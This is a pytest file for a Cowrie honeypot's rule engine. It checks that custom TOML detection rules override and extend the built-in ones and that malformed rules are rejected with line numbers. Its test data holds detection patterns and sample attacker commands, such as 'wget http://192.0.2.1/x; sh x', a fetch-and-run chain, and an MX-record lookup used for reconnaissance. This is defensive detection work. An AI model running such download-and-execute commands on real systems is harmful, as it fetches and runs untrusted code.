"""Rules of one's own beside the project's: they take places, add to scores, and are refused with their line."""

import pytest

from cowrie_assets.cowrie.rule_set import rule_set
from cowrie_assets.cowrie.rule_table import RuleError

OWN = """
[programs]
fetchers = "aria5 @downloaders"

[[rule]]
id = "download"
score = 90
description = "fetches a file, by our own tools, too"
when = [{ programs = "@fetchers", operand = true }]
matches = ["aria5 http://192.0.2.1/x", "wget http://192.0.2.1/x"]
spares = ["aria5"]

[[rule]]
id = "asks_for_mail_servers"
technique = "T1046"
score = 75
description = "asks which mail server a domain has"
when = [{ programs = "nslookup", words = ["mx"] }]
matches = ["nslookup -type=mx example.org"]

[[chain]]
id = "fetch_and_mail"
bonus = 7
description = "fetches, and asks for mail servers"
needs = ["download", "asks_for_mail_servers"]
matches = ["wget http://192.0.2.1/x; nslookup -type=mx example.org"]
spares = ["wget http://192.0.2.1/x"]
"""


def test_own_rules_take_the_place_of_the_projects_and_add_to_them():
    before, after = rule_set(), rule_set(OWN)
    assert before.risk.score("wget http://192.0.2.1/x") == 70
    assert after.risk.score("wget http://192.0.2.1/x") == 90
    assert after.risk.score("aria5 http://192.0.2.1/x; nslookup -type=mx example.org") == 97
    assert after.risk.score("wget http://192.0.2.1/x; sh x") == 100, "the project's chains go on"
    (shown,) = (each for each in after.techniques.shown_by("nslookup -type=mx example.org") if each.rule in after.own)
    assert (shown.rule.name, shown.rule.technique) == ("asks_for_mail_servers", "T1046")
    assert [rule.name for rule in after.techniques.rules].count("download") == 1, "that on a technique stays"
    assert len(after.risk.rules) == len(before.risk.rules) + 1
    assert after.digest != before.digest
    assert after.version == before.version
    judged = after.judge("nslookup -type=mx example.org")
    assert (judged.risk, shown in judged.shown) == (75, True)


@pytest.mark.parametrize(
    ("own", "line", "said"),
    [
        (OWN.replace("T1046", "T9999"), 14, "rule asks_for_mail_servers: T9999 is not among the techniques"),
        (
            OWN.replace('["download", "asks', '["downlaod", "asks'),
            22,
            "chain fetch_and_mail: there is no rule downlaod",
        ),
        (OWN.replace("needs = [", "needs = ['miner', "), 22, "chain fetch_and_mail does not match its example"),
        (OWN.replace('["aria5"]', '["aria5 x"]'), 6, "rule download matches what it is to spare"),
        (OWN + '\n[techniques."T9999"]\nname = "x"', 29, "technique T9999: tactics is a list of"),
        (OWN + "\n[x]", None, "there is no x: the file has"),
    ],
)
def test_what_own_rules_may_not_say_is_told_with_the_line(own, line, said):
    with pytest.raises(RuleError, match=said) as refused:
        rule_set(own)
    assert refused.value.line == line
